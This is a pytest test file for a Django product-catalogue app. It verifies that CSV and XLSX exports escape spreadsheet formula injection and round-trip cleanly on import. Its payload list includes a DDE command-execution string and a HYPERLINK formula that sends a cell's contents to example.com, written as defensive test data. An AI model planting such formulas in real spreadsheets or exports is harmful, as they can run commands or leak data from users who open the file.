"""Names that a spreadsheet would calculate: exported as text, imported as they were (ABUSE 16)."""

from __future__ import annotations

import csv
import io
import zipfile
from codecs import BOM_UTF8
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest

from pricebook.catalogue.export import ExportFormat, export_products
from pricebook.catalogue.models import Product
from pricebook.catalogue.writes import create_product
from pricebook.changes.models import ChangeSet
from tests.factories import counts, imported

if TYPE_CHECKING:
    from pathlib import Path

    from pytest_django import Settings

pytestmark = pytest.mark.django_db

# OWASP, CSV Injection; the last ones are texts of people that only look escaped.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
]
CALCULATED = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TEXT_FIELDS = ("sku", "name", "description", "brand", "gtin", "category", "unit_size")


@pytest.fixture(autouse=True)
def files_folder(settings: Settings, tmp_path: Path) -> None:
    settings.FILES_ROOT = settings.FILE_UPLOAD_TEMP_DIR = tmp_path


@pytest.fixture
def hostile_book() -> list[str]:
    """Put each hostile text into every text field of a product; return the SKUs."""
    for text in HOSTILE:
        create_product(values=dict.fromkeys(TEXT_FIELDS, text[:50]), actor=None)
    return [text[:50] for text in HOSTILE]


def exported(kind: ExportFormat) -> bytes:
    return b"".join(export_products(Product.objects.live().order_by("id"), kind))


def test_no_cell_of_a_csv_file_begins_like_a_formula(hostile_book: list[str]) -> None:
    text = exported(ExportFormat.CSV).removeprefix(BOM_UTF8).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(hostile_book)
    for sku, row in zip(hostile_book, rows, strict=True):
        assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, f"'{sku}")
        assert not any(cell.startswith(CALCULATED) for cell in row.values())


def test_a_text_that_begins_with_a_tab_or_a_line_end_is_trimmed_when_it_is_stored() -> None:
    create_product(values={"sku": "A-1", "name": "\t=1+1", "brand": "\r=1+1"}, actor=None)
    product = Product.objects.get()
    assert (product.name, product.brand) == ("=1+1", "=1+1")


def test_a_workbook_holds_texts_and_no_formula(hostile_book: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(exported(ExportFormat.XLSX))) as archive:
        sheet = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not list(sheet.iter(f"{space}f"))
    assert not list(sheet.iter(f"{space}hyperlink"))
    first_cells = [row[0] for row in sheet.iter(f"{space}row")][1:]
    assert [cell.get("t") for cell in first_cells] == ["inlineStr"] * len(hostile_book)
    # What seems to have an apostrophe already gets another: it loses one when it comes back.
    kept = [f"'{text}" if text.startswith("'") else text for text in hostile_book]
    assert ["".join(cell.itertext()) for cell in first_cells] == kept


@pytest.mark.django_db(transaction=True)
def test_the_file_imported_again_changes_nothing(hostile_book: list[str]) -> None:
    sets = ChangeSet.objects.count()
    job = imported(exported(ExportFormat.CSV))
    assert counts(job) == {"total": len(hostile_book), "unchanged": len(hostile_book)}
    assert ChangeSet.objects.count() == sets
